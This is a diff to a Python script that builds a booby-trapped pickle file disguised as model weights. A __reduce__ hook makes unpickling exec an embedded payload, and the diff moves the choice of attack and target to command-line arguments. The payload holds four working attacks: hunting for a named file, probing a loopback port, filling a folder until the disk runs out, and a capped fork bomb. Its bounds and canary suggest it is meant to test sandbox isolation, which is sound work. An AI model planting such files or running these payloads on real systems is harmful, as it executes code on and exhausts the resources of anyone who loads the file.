@@ -1,15 +1,15 @@
 # SPDX-License-Identifier: Apache-2.0
-"""Make a model file that attacks whoever loads it: hostile.py MODEL.pkl
+"""Make a model file that attacks whoever loads it:
+hostile.py MODEL.pkl ATTACK [TARGET]
 
-The attack happens while the file is unpickled, before any "model" exists. The
-variable ATTACK selects one of four. Each says in one line what it got and
-ends with status SUCCEEDED or FAILED; but that is only what it says. Who runs
-it judges by what the host itself saw.
+The attack happens while the file is unpickled, before any "model" exists. Each
+says in one line what it got and ends with status SUCCEEDED or FAILED; but that
+is only what it says. Who runs it judges by what the host itself saw.
 
-  read     search for the file CANARY names, there and wherever it may hide
-  connect  call the TCP port PORT on this machine's loopback addresses
-  fill     write to the folder FOLDER until there is no more room
-  fork     start processes until the system refuses
+  read CANARY    search for this file, there and wherever it may hide
+  connect PORT   call this TCP port on the machine's loopback addresses
+  fill FOLDER    write to this folder until there is no more room
+  fork           start processes until the system refuses
 
 They are bounded so that a mistake outside a virtual machine hurts nobody: at
 most 256 MiB are written and 1,000 processes started.
@@ -18,7 +18,8 @@ most 256 MiB are written and 1,000 processes started.
 import pickle
 import sys
 
-# What runs at the victim's. Text, because a pickle carries no code objects.
+# What runs at the victim's. Text, because a pickle carries no code objects; the
+# names attack and target come with it.
 PAYLOAD = r'''
 import os, socket, sys, time
 
@@ -35,7 +36,7 @@ def hiding_places(path):
 
 
 def attack_read():
-    for place in hiding_places(os.environ["CANARY"]):
+    for place in hiding_places(target):
         try:
             with open(place) as file:
                 return SUCCEEDED, "read " + file.read(200)
@@ -45,7 +46,7 @@ def attack_read():
 
 
 def attack_connect():
-    port = int(os.environ["PORT"])
+    port = int(target)
     for family, host in ((socket.AF_INET, "127.0.0.1"),
                          (socket.AF_INET6, "::1")):
         try:
@@ -60,8 +61,7 @@ def attack_connect():
 
 
 def attack_fill():
-    folder = os.environ["FOLDER"]
-    block, written = b"x" * 65536, 0
+    folder, block, written = target, b"x" * 65536, 0
     try:
         os.makedirs(folder, exist_ok=True)
     except OSError:
@@ -94,26 +94,33 @@ def attack_fork():
     return FAILED, "%d processes and gave up" % count
 
 
-name = os.environ.get("ATTACK", "")
 status, text = {"read": attack_read, "connect": attack_connect,
-                "fill": attack_fill, "fork": attack_fork}[name]()
-print("attack %s: %s" % (name, text), flush=True)
+                "fill": attack_fill, "fork": attack_fork}[attack]()
+print("attack %s: %s" % (attack, text), flush=True)
 os._exit(status)
 '''
+
+
+ATTACKS = ("read", "connect", "fill", "fork")
 
 
 class Weights:
     """Looks like a model in a listing; unpickling it calls exec."""
 
+    def __init__(self, attack, target):
+        self.names = {"attack": attack, "target": target}
+
     def __reduce__(self):
-        return exec, (PAYLOAD, {})
+        return exec, (PAYLOAD, self.names)
 
 
 def main():
-    if len(sys.argv) != 2:
-        sys.exit("usage: hostile.py MODEL.pkl")
+    if len(sys.argv) not in (3, 4) or sys.argv[2] not in ATTACKS:
+        sys.exit("usage: hostile.py MODEL.pkl ATTACK [TARGET]; ATTACK is " +
+                 ", ".join(ATTACKS))
+    hidden = Weights(sys.argv[2], sys.argv[3] if len(sys.argv) == 4 else "")
     with open(sys.argv[1], "wb") as file:
-        pickle.dump({"hidden": Weights(), "output": 0}, file)
+        pickle.dump({"hidden": hidden, "output": 0}, file)
 
 
 if __name__ == "__main__":
